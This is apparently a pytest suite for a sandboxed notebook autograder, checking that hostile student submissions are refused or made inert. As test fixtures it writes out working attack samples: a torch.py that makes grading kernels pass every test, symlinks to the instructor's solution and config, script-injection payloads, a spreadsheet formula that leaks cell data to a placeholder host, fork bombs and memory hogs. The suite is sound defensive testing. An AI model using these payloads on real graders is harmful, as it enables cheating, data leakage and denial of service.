"""A submission is untrusted data from end to end (issue 25): what a student hands in *around* the code.

One small course (exercise 1, a sqlite gradebook) is graded once by ``seqlab grade-class`` and once more,
for the submissions that attack nbgrader's own path, by ``nbgrader autograde``. Each student hands in:

| student        | hands in                                                                | expected             |
|----------------|-------------------------------------------------------------------------|----------------------|
| browser_name   | the solution saved as ``ex01_lstm_cell (1).ipynb`` (a browser download) | full marks           |
| two_notebooks  | the solution under both names                                           | refused, both named  |
| torch_module   | the untouched release, and a ``torch.py`` that makes every test cell    | 0: the verdict kernel|
|                | ``pass`` in the kernel that imports it                                  | never imports it     |
| links          | the release, its first answer running the solution read through a       | 0, each link refused,|
|                | symlink to the instructor's notebook; links to /dev/zero and the       | nothing copied       |
|                | config, a FIFO, a hard link to a file outside                          |                      |
| corrupt        | a notebook whose JSON nests 100,000 deep                                 | refused as corrupt   |
| forged_notes   | the solution, its metadata carrying grader notes that start a formula   | full marks, the      |
|                |                                                                          | export carries none  |
| markup         | the solution, and outputs and markdown that would run script in a page  | full marks, inert    |
| planter        | the solution, a cell that turns the kernel's runtime files into links to | full marks, nothing  |
|                | a file outside, then ends the kernel                                    | written through them |

The solution handed in as it is, graded with each test cell's points, is the class cycle's perfect student
(tests/test_class_cycle.py); here four students hand it in around something else, and each must get full marks.

Besides: a notebook that forks until its process limit, graded beside three correct ones at the same
time, fails only itself; a notebook of many slow cells stops at the one time limit of the notebook; and
``seqlab grade`` calls a deeply nested notebook corrupt (exit 2). The formgrader in a real browser is
tests/test_formgrader_browser.py.
"""

import csv
import json
import os
import re
import shutil
import subprocess
from html.parser import HTMLParser

import nbformat
import pytest
from grading_harness import BIN, ROOT, SANDBOX_MISSING, nbgrader, run_nbgrader, solved
from nbconvert.filters.markdown_mistune import markdown2html_mistune
from nbformat.v4 import new_code_cell, new_markdown_cell

from seqlab.grading import intake
from seqlab.grading.nbgrader_plugins import inert_cell
from seqlab.grading.sanitize import active_parts, clean_html, clean_markdown

EX = "ex01_lstm_cell"
ENV = dict(os.environ, PATH=f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}")
needs_sandbox = pytest.mark.skipif(SANDBOX_MISSING is not None, reason=f"no sandbox: {SANDBOX_MISSING}")

# Imported by the kernel that starts beside it: it hands the real torch back, then makes every later cell
# of that kernel `pass`, so that in a verdict kernel every test passes (the attack of issue 25, item 1).
TORCH_MODULE = """
import importlib, os, sys
here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
del sys.modules["torch"]
sys.modules["torch"] = importlib.import_module("torch")
try:
    get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
except NameError:
    pass
"""
READ_THROUGH_LINK = (
    "import json\n"
    "for c in json.load(open('notes.txt'))['cells']:\n"
    "    if c['metadata'].get('nbgrader', {}).get('solution') and c['cell_type'] == 'code':\n"
    "        exec(''.join(c['source']), globals())\n"
)
SCRIPT_OUTPUTS = (
    "from IPython.display import HTML, SVG, Javascript, display\n"
    "display(HTML('<b>bold</b><script>document.title = \"pwned\"</script><img src=x onerror=\"alert(1)\">'))\n"
    "display(Javascript('document.title = \"pwned\"'))\n"
    "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><circle r=\"1\"/></svg>'))\n"
    "display(HTML('<iframe src=\"javascript:alert(1)\"></iframe><a href=\"javascript:alert(1)\">x</a>'))"
)
SCRIPT_MARKDOWN = "My answer <img src=x onerror=alert(1)> <script>alert(2)</script> [see](javascript:alert(3))"
# In the student's kernel: every file of its runtime folder (connection file, and where the kernel log and
# a passwd once were) becomes a link to a file of the grader's machine, then the kernel dies, so that the
# grader starts a new one. Nothing may be written through the links.
PLANT_LINKS = """
import os
from ipykernel import get_connection_file
runtime = os.path.dirname(get_connection_file())
for name in ["kernel.json", "kernel.log", "passwd", "group", "k-1", "k-2", "k-3", "k-4", "k-5"]:
    path = os.path.join(runtime, name)
    if os.path.lexists(path):
        os.remove(path)
    os.symlink({target!r}, path)
os._exit(1)
"""
NOT_A_NOTEBOOK = '{"cells": [1, 2], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'  # JSON, cells not cells
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def nested(depth: int) -> str:
    return '{"cells": [], "metadata": {"x": ' + "[" * depth + "]" * depth + '}, "nbformat": 4, "nbformat_minor": 5}'


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    course = tmp_path_factory.mktemp("attacks")
    shutil.copy2(ROOT / "nbgrader_config.py", course / "nbgrader_config.py")
    (course / "solutions" / EX).mkdir(parents=True)
    shutil.copy2(ROOT / "solutions" / EX / f"{EX}.ipynb", course / "solutions" / EX / f"{EX}.ipynb")
    nbgrader(course, "generate_assignment", EX, "--force")
    release = nbformat.read(course / "exercises" / EX / f"{EX}.ipynb", as_version=4)
    solution = nbformat.read(course / "solutions" / EX / f"{EX}.ipynb", as_version=4)
    answer = solved(release, solution)
    outside = tmp_path_factory.mktemp("outside") / "secret.txt"
    outside.write_text("the instructor's secret")

    def hand_in(student, nb=None, name=f"{EX}.ipynb"):
        folder = course / "submitted" / student / EX
        folder.mkdir(parents=True, exist_ok=True)
        if nb is not None:
            nbformat.write(nb, folder / name)
        return folder

    folder = hand_in("browser_name", answer, f"{EX} (1).ipynb")
    (folder / f"{EX}.ipynb").mkdir()  # a folder named as the notebook will be, and a name that is not UTF-8
    (folder / f"{EX}.ipynb" / "x.txt").write_text("x")
    (folder / os.fsdecode(b"notes\xff\nfake line.txt")).write_text("x")
    hand_in("two_notebooks", answer)
    hand_in("two_notebooks", answer, f"{EX} (1).ipynb")
    (hand_in("torch_module", release) / "torch.py").write_text(TORCH_MODULE)
    links = nbformat.from_dict(release)
    first = next(c for c in links.cells if c.metadata.get("nbgrader", {}).get("solution"))
    first.source = READ_THROUGH_LINK
    folder = hand_in("links", links)
    (folder / "notes.txt").symlink_to(course / "solutions" / EX / f"{EX}.ipynb")
    (folder / "zero").symlink_to("/dev/zero")
    (folder / "config.py").symlink_to("../../../nbgrader_config.py")
    os.mkfifo(folder / "pipe")
    os.link(outside, folder / "hard.txt")
    (folder / "data.txt").write_text("a file of the student's own")
    (hand_in("corrupt") / f"{EX}.ipynb").write_text(nested(100_000))
    (hand_in("corrupt_cells") / f"{EX}.ipynb").write_text(NOT_A_NOTEBOOK)
    elsewhere = tmp_path_factory.mktemp("elsewhere")  # a student folder that is a link to another class's
    shutil.copytree(course / "solutions" / EX, elsewhere / EX)
    (course / "submitted" / "linked").symlink_to(elsewhere)
    hand_in("<img src=x onerror=alert(1)>", answer)
    planter = nbformat.from_dict(answer)  # plants links where the grader, root, writes, then dies
    planter.cells.insert(1, new_code_cell(PLANT_LINKS.format(target=str(outside))))
    hand_in("planter", planter)
    forged = nbformat.from_dict(answer)
    forged.metadata["seqlab"] = {"notes": [FORMULA], "review": [], "sandbox": "forged"}
    hand_in("forged_notes", forged)
    markup = nbformat.from_dict(answer)
    markup.cells.append(new_code_cell(SCRIPT_OUTPUTS))
    markup.cells.append(new_markdown_cell(SCRIPT_MARKDOWN))
    hand_in("markup", markup)

    extra = ["--", "--Sandbox.enabled=False"] if SANDBOX_MISSING else []
    report = tmp_path_factory.mktemp("report") / "report.json"
    command = [str(BIN / "seqlab"), "grade-class", "--json", str(report), *extra]
    # The bound is for a hang (a link to /dev/zero read without end): grading takes about a minute.
    done = subprocess.run(command, cwd=course, env=ENV, capture_output=True, text=True, timeout=900)
    summary = done.stdout + done.stderr
    outcomes = {s["student"]: s for s in json.loads(report.read_text())["submissions"]}
    nbgrader(course, "export", "--to=grades.csv")
    return {"course": course, "summary": summary, "status": done.returncode, "outcomes": outcomes, "outside": outside,
            "release": release, "solution": solution}


def autograded(course, student):
    return nbformat.read(course / "autograded" / student / EX / f"{EX}.ipynb", as_version=4)


@needs_sandbox
def test_the_grader_never_writes_through_a_link_a_kernel_planted(course):
    outcome = course["outcomes"]["planter"]
    assert outcome["status"] == "graded" and outcome["score"] == full(course["course"]), course["summary"]
    assert course["outside"].read_text() == "the instructor's secret"


@needs_sandbox
def test_linked_folders_odd_ids_and_odd_names_are_refused_and_the_rest_graded(course):
    outcomes = course["outcomes"]
    assert outcomes["linked"]["status"] == "failed" and "link" in outcomes["linked"]["reason"], outcomes["linked"]
    odd = next(o for o in outcomes.values() if o["student"].startswith("<img"))
    assert odd["status"] == "failed" and "is not letters, digits" in odd["reason"], odd
    assert outcomes["corrupt_cells"]["status"] == "failed" and "corrupt" in outcomes["corrupt_cells"]["reason"]
    notes = " | ".join(outcomes["browser_name"]["notes"])
    assert "folder named as the notebook" in notes and "not UTF-8" in notes, notes
    assert "fake line" not in course["summary"].replace("\\nfake line", ""), course["summary"]
    assert not (course["course"] / "autograded" / "linked").exists()
    done = run_nbgrader(course["course"], "autograde", EX, "--student=linked", "--force")
    assert not (course["course"] / "autograded" / "linked").exists(), done.stdout + done.stderr


@needs_sandbox
def test_the_formgrader_button_takes_the_intake_too(course):
    """NbGraderAPI.autograde, what formgrader's autograde button calls, reads the submission's copy too."""
    script = (
        "from nbgrader.apps import NbGraderAPI\n"
        "from traitlets.config.loader import PyFileConfigLoader\n"
        "config = PyFileConfigLoader('nbgrader_config.py', path='.').load_config()\n"
        "config.CourseDirectory.root = '.'\n"
        f"result = NbGraderAPI(config=config).autograde({EX!r}, 'links', force=True, create=True)\n"
        "print('success', result['success'])\n"
    )
    done = subprocess.run([str(BIN / "python"), "-c", script], cwd=course["course"], env=ENV,
                          capture_output=True, text=True, timeout=300)
    assert "success True" in done.stdout, done.stdout + done.stderr
    copied = {p.name for p in (course["course"] / "autograded" / "links" / EX).iterdir()} - {"timestamp.txt"}
    assert copied == {"data.txt", f"{EX}.ipynb"}, copied


def full(course) -> float:
    nb = nbformat.read(course / "exercises" / EX / f"{EX}.ipynb", as_version=4)
    return sum(
        float(c.metadata.nbgrader["points"]) for c in nb.cells
        if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"
    )


@needs_sandbox
def test_correct_work_gets_full_marks_whatever_the_notebook_is_called(course):
    outcomes = course["outcomes"]
    for student in ("browser_name", "planter", "forged_notes", "markup"):
        assert outcomes[student]["status"] == "graded", course["summary"]
        assert outcomes[student]["score"] == full(course["course"]), (student, course["summary"])


@needs_sandbox
def test_two_notebooks_are_refused_naming_both(course):
    outcome = course["outcomes"]["two_notebooks"]
    assert outcome["status"] == "failed"
    assert f"{EX}.ipynb" in outcome["reason"] and f"{EX} (1).ipynb" in outcome["reason"], outcome["reason"]
    assert "two_notebooks" in course["summary"]


@needs_sandbox
def test_a_module_beside_the_notebook_never_reaches_the_verdict_kernel(course):
    outcome = course["outcomes"]["torch_module"]
    assert outcome["status"] == "graded" and outcome["score"] == 0, course["summary"]
    # and through nbgrader's own command (SafeAutograde, installed by nbgrader_config.py), the same 0
    done = run_nbgrader(course["course"], "autograde", EX, "--student=torch_module", "--force")
    assert done.returncode == 0, done.stdout + done.stderr
    graded = autograded(course["course"], "torch_module")
    tests = [c for c in graded.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"]
    assert tests and all(any(o.output_type == "error" for o in c.outputs) for c in tests)


@needs_sandbox
def test_links_fifos_and_hard_links_are_refused_and_the_rest_is_graded(course):
    outcome = course["outcomes"]["links"]
    assert outcome["status"] == "graded" and outcome["score"] == 0, course["summary"]
    notes = " | ".join(outcome["notes"])
    for name in ("notes.txt", "zero", "config.py", "pipe", "hard.txt"):
        assert name in notes, notes
    for run in ("grade-class", "autograde"):
        if run == "autograde":
            done = run_nbgrader(course["course"], "autograde", EX, "--student=links", "--force", timeout=300)
            assert done.returncode == 0, done.stdout + done.stderr
        folder = course["course"] / "autograded" / "links" / EX
        copied = {p.name for p in folder.iterdir()} - {"timestamp.txt"}
        assert copied == {"data.txt", f"{EX}.ipynb"}, (run, copied)
        assert not any(p.is_symlink() for p in folder.iterdir())
        graded_notes = autograded(course["course"], "links").metadata["seqlab"]["notes"]
        assert any("notes.txt" in n and "symbolic link" in n for n in graded_notes), graded_notes


@needs_sandbox
def test_a_corrupt_notebook_is_refused_as_corrupt(course):
    outcome = course["outcomes"]["corrupt"]
    assert outcome["status"] == "failed" and "corrupt" in outcome["reason"], outcome


@needs_sandbox
def test_notes_come_from_the_grader_and_the_export_is_inert(course):
    graded = autograded(course["course"], "forged_notes")
    assert FORMULA not in graded.metadata["seqlab"].get("notes", [])
    assert graded.metadata["seqlab"]["sandbox"] != "forged"
    with open(course["course"] / "grades.csv", newline="") as f:
        rows = list(csv.reader(f))
    assert rows and not any("HYPERLINK" in field for row in rows for field in row)
    assert not any(field.startswith(("=", "+", "@", "\t", "\r")) for row in rows for field in row)


@needs_sandbox
def test_student_markup_is_inert_in_what_the_grader_writes(course):
    graded = autograded(course["course"], "markup")
    # what a page renders as HTML: outputs and markdown (code is shown as escaped text)
    text = json.dumps([c.get("outputs", []) if c.cell_type == "code" else c.source for c in graded.cells])
    for active in ("<script", "onerror", "onload", "javascript:", "application/javascript", "image/svg+xml", "<iframe"):
        assert active not in text.lower(), active
    assert "<b>bold</b>" in text  # harmless HTML stays
    nbgrader(course["course"], "generate_feedback", EX, "--student=markup", "--force")
    page = (course["course"] / "feedback" / "markup" / EX / f"{EX}.html").read_text()
    assert payload_parts(page) == [], payload_parts(page)


class _Active(HTMLParser):
    """The parts of a page that would run: event-handler attributes, ``javascript:`` URLs, iframes, and
    scripts that carry a payload's words (the page's own scripts, MathJax's and nbconvert's, do not)."""

    def __init__(self):
        super().__init__()
        self.found, self._in_script = [], False

    def handle_starttag(self, tag, attrs):
        self._in_script = tag == "script"
        if tag in ("iframe", "object", "embed"):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_data(self, data):
        if self._in_script and ("pwned" in data or "alert(" in data):
            self.found.append(f"<script>{data[:60]}")

    def handle_endtag(self, tag):  # noqa: ARG002 (HTMLParser's signature)
        self._in_script = False


def payload_parts(page: str) -> list:
    parser = _Active()
    parser.feed(page)
    return parser.found


def test_the_payload_check_finds_what_would_run():
    page = '<p onclick="x()">a</p><script>alert(1)</script><script>MathJax = {}</script><a href="javascript:x">l</a>'
    assert payload_parts(page) == ["<p onclick='x()'>", "<script>alert(1)", "<a href='javascript:x'>"]
    assert payload_parts("<pre>&lt;img src=x onerror=alert(1)&gt;</pre>") == []


def test_the_sanitiser_keeps_images_and_text_and_drops_what_runs():
    png = "data:image/png;base64,iVBORw0KGgo="
    assert clean_html(f'<img src="{png}" onload="x()"><a href="https://ok.example">ok</a>') == (
        f'<img src="{png}"><a href="https://ok.example" rel="noopener noreferrer">ok</a>'
    )
    assert clean_html('<img src="data:image/svg+xml;base64,PHN2Zz4=">') == "<img>"
    assert clean_markdown("a < b, > quoted") == "a < b, > quoted"  # no HTML: as written
    assert clean_markdown("$x<y$ and $$a>b$$") == r"$x\lt y$ and $$a\gt b$$"  # TeX's own, drawn the same
    assert "<img" not in clean_markdown("$<img src=x onerror=alert(1)>$ <b>x</b>")  # a formula, no tag
    for sneaky in ("[x](JaVa&#115;cript:alert(1))", "> [x]: javascript:alert(1)\n\n[x]", "- [x]: javascript:a()\n\n[x]",
                   "[x]:\n  javascript:a()\n\n[x]", "[x]: javascript:a()\r\n\r\n[x]", "<javascript:a()>"):
        assert active_parts(markdown2html_mistune(sneaky)) != []  # each renders a javascript: link
        assert active_parts(markdown2html_mistune(clean_markdown(sneaky))) == [], sneaky


def test_export_fields_that_start_a_formula_are_text():
    assert inert_cell(FORMULA) == "'" + FORMULA
    for value in ("+1+2", "@SUM(A1)", "\tx", "\rx", "-x"):
        assert inert_cell(value) == "'" + value
    for value in ("-1.5", "3", "alice", ""):
        assert inert_cell(value) == value


def test_the_intake_lists_without_following(tmp_path):
    (tmp_path / "nb.ipynb").write_text("{}")
    (tmp_path / "loop").symlink_to(tmp_path)
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "deep.txt").write_text("x")
    os.mkfifo(tmp_path / "fifo")
    found = intake.inspect(tmp_path)
    assert found.files == ["nb.ipynb", "sub/deep.txt"] and found.notebooks == ["nb.ipynb"]
    assert [r.split(":")[0] for r in found.refused] == ["fifo", "loop"]
    with pytest.raises(intake.SubmissionRefused, match="nests more than"):
        intake.read_notebook_json(nested(100_000).encode(), "nb.ipynb")
    with pytest.raises(intake.SubmissionRefused, match="not UTF-8"):
        intake.read_notebook_json(b"\xff\xfe", "nb.ipynb")


def test_seqlab_grade_calls_a_deeply_nested_notebook_corrupt(tmp_path):
    notebook = tmp_path / f"{EX}.ipynb"
    notebook.write_text(nested(100_000))
    done = subprocess.run([str(BIN / "seqlab"), "grade", str(notebook), "--course", str(ROOT)],
                          env=ENV, capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and "corrupt" in done.stdout + done.stderr, done.stdout + done.stderr
    assert "Traceback" not in done.stdout + done.stderr


def course_of_exercise_1(tmp_path, settings: str):
    """A course of exercise 1 alone (release and solution) for `seqlab grade --course`, with the repository's
    nbgrader_config.py and ``settings`` added at its end."""
    course = tmp_path / "course"
    for folder in ("exercises", "solutions"):
        (course / folder / EX).mkdir(parents=True)
        shutil.copy2(ROOT / folder / EX / f"{EX}.ipynb", course / folder / EX / f"{EX}.ipynb")
    (course / "nbgrader_config.py").write_text((ROOT / "nbgrader_config.py").read_text() + f"\n{settings}\n")
    return course


FORK_AND_HOLD = (
    "import os, time\n"
    "children = 0\n"
    "for _ in range(2000):  # bounded: at most 2000 forks, each child gone after 30 s\n"
    "    try:\n"
    "        pid = os.fork()\n"
    "    except OSError:\n"
    "        break\n"
    "    if pid == 0:\n"
    "        time.sleep(30)\n"
    "        os._exit(0)\n"
    "    children += 1\n"
    "print('children held:', children)\n"
    "time.sleep(30)\n"
)


@needs_sandbox
@pytest.mark.skipif(os.geteuid() != 0, reason="per-grading process limits need the grader to be root")
def test_a_notebook_that_holds_its_process_slots_fails_only_itself(tmp_path):
    """The forker is graded first, two at a time: the correct notebooks start their kernels while it holds
    every process its limit allows. Control groups are switched off here (total_memory_limit = 0), so
    what keeps them apart is the kernel user each grading leases. (The issue saw three classmates die
    beside such a notebook with one shared user; on this machine's kernel, 6.18, one shared user at 512
    tasks did not stop the others, so this test guards the property, and the next one the mechanism.)"""
    course = course_of_exercise_1(tmp_path, "c.Sandbox.total_memory_limit = 0")
    release = nbformat.read(ROOT / "exercises" / EX / f"{EX}.ipynb", as_version=4)
    answer = solved(release, nbformat.read(ROOT / "solutions" / EX / f"{EX}.ipynb", as_version=4))
    folder = tmp_path / "class"
    folder.mkdir()
    forker = nbformat.from_dict(answer)
    forker.cells.insert(1, new_code_cell(FORK_AND_HOLD))
    nbformat.write(forker, folder / "a_forker.ipynb")  # first in the folder's order
    for n in range(3):
        nbformat.write(answer, folder / f"correct{n}.ipynb")
    done = subprocess.run([str(BIN / "seqlab"), "grade", str(folder), "--course", str(course), "--jobs", "2"],
                          env=ENV, capture_output=True, text=True, timeout=900)
    tables = (done.stdout + done.stderr).split("Grading ")
    for n in range(3):
        table = next(t for t in tables if f"correct{n}.ipynb" in t.splitlines()[0])
        assert "Full marks on the autograded tasks" in table, table


@pytest.mark.skipif(os.geteuid() != 0, reason="kernel users are leased where the grader is root")
def test_gradings_at_the_same_time_never_share_a_kernel_user_or_a_control_group(tmp_path):
    from seqlab.grading.sandbox import KernelSession

    sessions = [KernelSession(str(tmp_path), memory_limit=2**30, process_limit=64) for _ in range(8)]
    try:
        assert len({s.user for s in sessions}) == 8
        groups = [tuple(s.cgroup.folders) for s in sessions if s.cgroup is not None]
        assert len(set(groups)) == len(groups)
        for session in sessions:
            assert os.stat(session.link).st_uid == session.user[0]
    finally:
        for session in sessions:
            session.close()
    again = KernelSession(str(tmp_path))  # a closed session's user is free again
    again.close()


@needs_sandbox
def test_a_notebook_has_one_time_limit_whatever_its_number_of_cells(tmp_path):
    course = course_of_exercise_1(tmp_path, "c.SandboxedExecute.total_timeout = 20")
    nb = nbformat.read(course / "exercises" / EX / f"{EX}.ipynb", as_version=4)
    nb.cells[1:1] = [new_code_cell("import time; time.sleep(2)") for _ in range(200)]  # 400 s of cells
    notebook = tmp_path / f"{EX}.ipynb"
    nbformat.write(nb, notebook)
    done = subprocess.run([str(BIN / "seqlab"), "grade", str(notebook), "--course", str(course)],
                          env=ENV, capture_output=True, text=True, timeout=300)
    out = done.stdout + done.stderr
    assert "grading time is up (20 s for the notebook)" in out, out


HOGS = (
    "import subprocess, sys\n"
    "hog = 'b = bytearray(600 * 2**20); import time; time.sleep(3)'\n"
    "procs = [subprocess.Popen([sys.executable, '-c', hog]) for _ in range(3)]\n"
    "print('memory hogs ended with', sorted(p.wait() for p in procs))\n"
    "written = 0\n"
    "try:\n"
    "    for i in range(4):\n"
    "        with open(f'big{i}', 'wb') as f:\n"
    "            f.write(b'x' * 30 * 2**20)\n"
    "        written += 1\n"
    "except OSError as error:\n"
    "    print('disk:', error.strerror)\n"
    "print('files written:', written)\n"
)


def control_groups_work() -> bool:
    from seqlab.grading.sandbox import ControlGroup

    group = ControlGroup.create("seqlab-probe-test", 2**30, 64)
    if group is None:
        return False
    group.remove()
    return True


@needs_sandbox
@pytest.mark.skipif(os.geteuid() != 0 or not control_groups_work(), reason="needs root and control groups")
def test_memory_and_disk_are_capped_for_the_whole_notebook_not_per_process(tmp_path):
    limits = "c.Sandbox.total_memory_limit = 1536 * 2**20\nc.Sandbox.disk_limit = 64 * 2**20"
    course = course_of_exercise_1(tmp_path, limits)
    nb = nbformat.read(course / "exercises" / EX / f"{EX}.ipynb", as_version=4)
    nb.cells.insert(1, new_code_cell(HOGS))  # 3 x 600 MB (each under the 4 GB per process), 4 x 30 MB
    notebook = tmp_path / "student" / f"{EX}.ipynb"
    notebook.parent.mkdir()
    nbformat.write(nb, notebook)
    done = subprocess.run([str(BIN / "seqlab"), "grade", str(notebook), "--course", str(course)],
                          env=ENV, capture_output=True, text=True, timeout=600)
    page = (notebook.parent / f"{EX}.feedback.html").read_text()
    hogs = re.search(r"memory hogs ended with \[([-\d, ]*)\]", page)  # the printed line, not the code
    assert hogs, done.stdout + done.stderr
    assert "-9" in hogs[1], hogs[0]  # at least one hog was killed: 1.8 GB together do not fit in 1.5 GB
    written = re.search(r"files written: (\d)", page)
    assert written and int(written[1]) < 4, written  # 120 MB do not fit in 64 MB


def test_the_intake_stages_the_notebook_under_the_exercise_name_beside_the_other_files(tmp_path):
    submission = tmp_path / "in"
    submission.mkdir()
    (submission / "a.txt").write_text("a")
    (submission / f"{EX} (1).ipynb").write_text(json.dumps(nbformat.v4.new_notebook()))
    (submission / "z.txt").write_text("z")
    found = intake.stage(submission, tmp_path / "out", EX)
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["a.txt", f"{EX}.ipynb", "z.txt"]
    assert (tmp_path / "out" / "a.txt").read_text() == "a" and found.refused == []
